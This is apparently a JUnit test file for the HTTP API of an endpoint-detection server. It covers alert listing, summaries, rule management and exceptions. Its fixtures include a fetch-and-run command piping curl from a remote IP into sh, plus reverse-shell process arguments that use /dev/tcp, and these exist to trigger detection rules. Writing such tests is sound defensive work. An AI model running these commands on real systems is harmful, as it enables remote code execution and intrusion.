package dev.kiroku.server.detect;

import com.fasterxml.jackson.databind.JsonNode;
import dev.kiroku.server.detect.DetectionApi.Reply;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Path;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** The detection API over HTTP: a real Javalin on a free port with the routes registered, real store and H2. */
class DetectionRoutesTest {
    @TempDir
    Path data;
    DetectionApi api;
    Endpoint endpoint;
    Endpoint.Process shell;

    @BeforeEach
    void start() {
        api = new DetectionApi(data);
        endpoint = api.endpoint;
        shell = api.shell;
    }

    @AfterEach
    void stop() {
        api.close();
    }

    Reply call(String method, String path, String body) throws Exception {
        return api.call(method, path, body);
    }

    @Test
    void alertsAreListedFilteredAndFetchedById() throws Exception {
        endpoint.exec("e-rev1", "/usr/bin/bash", DetectionTest.REVSHELL_ARGS, shell);
        endpoint.exec("e-curl", "/usr/bin/bash", List.of("bash", "-c", "curl http://203.0.113.9/x | sh"), shell);
        endpoint.settle();

        Reply all = call("GET", "/api/v1/alerts?last=1h", null);
        assertThat(all.status()).isEqualTo(200);
        assertThat(all.body().path("alerts")).hasSize(2);
        Reply critical = call("GET", "/api/v1/alerts?level=critical&host=web-01&agent=" + Endpoint.AGENT, null);
        assertThat(critical.body().path("alerts")).singleElement().satisfies(a -> {
            assertThat(a.path("rule").path("id").asText()).isEqualTo(DetectionTest.REVSHELL);
            assertThat(a.path("rule").path("techniques").toString()).contains("T1059.004");
            assertThat(a.path("process_entity_id").asText()).isEqualTo("e-rev1");
            assertThat(a.path("count").asLong()).isEqualTo(1);
            assertThat(a.path("events").get(0).path("process.command_line").asText()).contains("/dev/tcp/");
        });
        long id = critical.body().path("alerts").get(0).path("id").asLong();
        assertThat(call("GET", "/api/v1/alerts/" + id, null).body().path("rule").path("level").asText()).isEqualTo("critical");
        assertThat(call("GET", "/api/v1/alerts?rule=" + DetectionTest.CURL_PIPE, null).body().path("alerts")).hasSize(1);

        assertThat(call("GET", "/api/v1/alerts/999999", null).status()).isEqualTo(404);
        Reply bad = call("GET", "/api/v1/alerts?last=yesterday", null);
        assertThat(bad.status()).isEqualTo(400);
        assertThat(bad.body().path("error").asText()).contains("yesterday");
        assertThat(call("GET", "/api/v1/alerts?limit=0", null).status()).isEqualTo(400);
        assertThat(call("GET", "/api/v1/alerts?limit=many", null).body().path("error").asText()).contains("'limit'", "many");
        assertThat(call("GET", "/api/v1/alerts?from=monday", null).body().path("error").asText()).contains("'from'", "monday");
        assertThat(call("GET", "/api/v1/alerts?from=2026-01-01T00:00:00Z&last=1h", null).body().path("error").asText())
                .contains("either 'last' or 'from'");
    }

    @Test
    void theSummaryCountsAlertsPerLevelHourRuleAndTechniqueInTheDatabase() throws Exception {
        endpoint.exec("e-rev1", "/usr/bin/bash", DetectionTest.REVSHELL_ARGS, shell);
        endpoint.exec("e-curl", "/usr/bin/bash", List.of("bash", "-c", "curl http://203.0.113.9/x | sh"), shell);
        endpoint.settle();
        JsonNode alerts = call("GET", "/api/v1/alerts?last=24h&limit=100", null).body().path("alerts");

        Reply summary = call("GET", "/api/v1/alerts/summary?last=24h&bucket=1h", null);
        assertThat(summary.status()).isEqualTo(200);
        JsonNode body = summary.body();
        assertThat(body.path("bucket_seconds").asLong()).isEqualTo(3600);
        assertThat(body.path("buckets")).hasSize(24);
        long counted = 0;
        for (JsonNode bucket : body.path("buckets")) for (JsonNode n : bucket.path("levels")) counted += n.asLong();
        assertThat(counted).as("every alert in exactly one bucket").isEqualTo(alerts.size());
        assertThat(body.path("buckets").get(23).path("levels").path("critical").asLong()).as("the newest hour").isEqualTo(1);
        assertThat(body.path("totals").path("critical").asLong()).isEqualTo(1);
        assertThat(body.path("top_rules")).hasSize(alerts.size());
        assertThat(body.path("top_rules").toString()).contains(DetectionTest.REVSHELL, DetectionTest.CURL_PIPE);
        long withT1059004 = 0;
        for (JsonNode a : alerts) if (a.path("rule").path("techniques").toString().toLowerCase().contains("t1059.004")) withT1059004++;
        assertThat(withT1059004).isPositive();
        assertThat(body.path("techniques").path("t1059.004").asLong()).isEqualTo(withT1059004);

        assertThat(call("GET", "/api/v1/alerts/summary?last=24h&bucket=1s", null).body().path("error").asText()).contains("1000 buckets");
        assertThat(call("GET", "/api/v1/alerts/summary?last=soon", null).status()).isEqualTo(400);
        Reply past = call("GET", "/api/v1/alerts/summary?from=2020-01-01T00:00:00Z&to=2020-01-02T00:00:00Z&bucket=6h", null);
        assertThat(past.body().path("buckets")).hasSize(4);
        assertThat(past.body().path("totals").size()).isZero();
    }

    @Test
    void rulesAreListedAddedDisabledAndReloaded() throws Exception {
        Reply list = call("GET", "/api/v1/rules", null);
        assertThat(list.status()).isEqualTo(200);
        assertThat(list.body().path("rules").size()).isGreaterThan(100);
        assertThat(list.body().path("problems")).isEmpty();

        Reply refused = call("POST", "/api/v1/rules?name=bad", "title: x\nid: 5b0e9d6c-0000-4000-8000-0000000000aa\nlogsource:\n  product: linux\n  category: process_creation\ndetection:\n  sel:\n    Image: x\n  condition: sel and missing\n");
        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body().path("error").asText()).contains("user/bad.yml:9");
        assertThat(refused.body().path("problems").get(0).path("line").asInt()).isEqualTo(9);

        Reply added = call("POST", "/api/v1/rules", DetectionTest.userRule("5b0e9d6c-0000-4000-8000-0000000000bb", "kiroku-rest"));
        assertThat(added.status()).isEqualTo(201);
        assertThat(added.body().path("rules").get(0).asText()).isEqualTo("5b0e9d6c-0000-4000-8000-0000000000bb");

        assertThat(call("POST", "/api/v1/rules/5b0e9d6c-0000-4000-8000-0000000000bb/disable", null).body().path("enabled").asBoolean()).isFalse();
        endpoint.exec("e-1", "/usr/bin/echo", List.of("echo", "kiroku-rest"), shell);
        endpoint.settle();
        assertThat(call("GET", "/api/v1/alerts", null).body().path("alerts")).isEmpty();
        assertThat(call("POST", "/api/v1/rules/5b0e9d6c-0000-4000-8000-0000000000bb/enable", null).status()).isEqualTo(200);
        assertThat(call("POST", "/api/v1/rules/nope/enable", null).status()).isEqualTo(404);

        Reply reload = call("POST", "/api/v1/rules/reload", null);
        assertThat(reload.status()).isEqualTo(200);
        assertThat(reload.body().path("rules").asInt()).isEqualTo(list.body().path("rules").size() + 1);
        endpoint.exec("e-2", "/usr/bin/echo", List.of("echo", "kiroku-rest"), shell);
        endpoint.settle();
        assertThat(call("GET", "/api/v1/alerts", null).body().path("alerts")).hasSize(1);
        JsonNode listed = call("GET", "/api/v1/rules", null).body().path("rules");
        assertThat(listed.toString()).contains("\"source\":\"user\"");
    }

    @Test
    void exceptionsArePreviewedAddedListedAndDeleted() throws Exception {
        endpoint.exec("e-rev1", "/usr/bin/bash", DetectionTest.REVSHELL_ARGS, shell);
        endpoint.settle();
        String body = """
                {"rule_id": "%s", "comment": "red team", "conditions": [{"field": "process.parent.executable", "value": "/usr/bin/bash"}]}
                """.formatted(DetectionTest.REVSHELL);

        Reply preview = call("POST", "/api/v1/exceptions/preview", body);
        assertThat(preview.body().path("would_suppress").asLong()).isEqualTo(1);
        assertThat(preview.body().path("alerts_checked").asLong()).isEqualTo(1);

        Reply created = call("POST", "/api/v1/exceptions", body);
        assertThat(created.status()).isEqualTo(201);
        long id = created.body().path("id").asLong();
        assertThat(call("GET", "/api/v1/exceptions", null).body().path("exceptions")).singleElement()
                .satisfies(e -> assertThat(e.path("comment").asText()).isEqualTo("red team"));

        endpoint.exec("e-rev2", "/usr/bin/bash", DetectionTest.REVSHELL_ARGS, shell);
        endpoint.settle();
        assertThat(call("GET", "/api/v1/alerts", null).body().path("alerts")).hasSize(1);

        assertThat(call("DELETE", "/api/v1/exceptions/" + id, null).status()).isEqualTo(200);
        assertThat(call("DELETE", "/api/v1/exceptions/" + id, null).status()).isEqualTo(404);
        endpoint.exec("e-rev3", "/usr/bin/bash", DetectionTest.REVSHELL_ARGS, shell);
        endpoint.settle();
        assertThat(call("GET", "/api/v1/alerts", null).body().path("alerts")).hasSize(2);

        Reply noConditions = call("POST", "/api/v1/exceptions", "{\"rule_id\": \"x\"}");
        assertThat(noConditions.status()).isEqualTo(400);
        assertThat(noConditions.body().path("error").asText()).contains("condition");
        assertThat(call("POST", "/api/v1/exceptions", "not json").status()).isEqualTo(400);
        assertThat(call("POST", "/api/v1/exceptions", "{\"field\": \"process.name\"}").body().path("error").asText()).contains("'value'");
    }
}
